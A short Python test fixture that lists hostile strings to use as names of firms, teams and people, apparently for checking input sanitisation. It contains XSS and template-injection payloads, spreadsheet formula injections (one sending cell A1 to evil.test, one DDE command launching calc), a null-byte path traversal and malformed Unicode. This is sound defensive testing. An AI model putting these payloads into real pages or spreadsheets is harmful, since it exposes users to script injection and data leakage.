"""What firms, teams and people may be called when somebody means harm, or a spreadsheet does."""

from typing import Final

HOSTILE_NAMES: Final = {
    "script": "<script>document.title='hostile';alert(1)</script>",
    "end of title": "</title></style></script><img src=x onerror=alert(2)>",
    "attribute": "\"><svg onload=alert(3)><a href='javascript:alert(4)'>",
    "single quotes": "' autofocus onfocus='alert(5)' x='",
    "javascript": "javascript:alert(6)",
    "data": "data:text/html,<script>alert(7)</script>",
    "template": "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    "comment": "<!-- ]]> --><![CDATA[ --!>",
    "formula": '=HYPERLINK("https://evil.test/?"&A1,"눌러요")',
    "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full-width formula": "＝1+1",
    "tabbed formula": "\t=1+1",
    "right to left": "\u202e가산\u2066정밀\u200f",
    "emoji": "🏃‍♀️🇰🇷👨‍👩‍👧‍👦 러닝 ☠️",
    "marks": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "nul": "가산\x00정밀\x1b[31m\x07",
    "half a pair": "반쪽 \ud83c",
    "lines": "한 줄\r\n두 줄\u2028세 줄",
    "wide": "W" * 10_000,
    "long": "가" * 10_000,
    "nothing": "\u200b\u3164\u00a0",
    "path": "../../race.toml%00.html",
    "entity": "&lt;b&gt;&#x202e;&nbsp;",
}
"""By what each is about."""
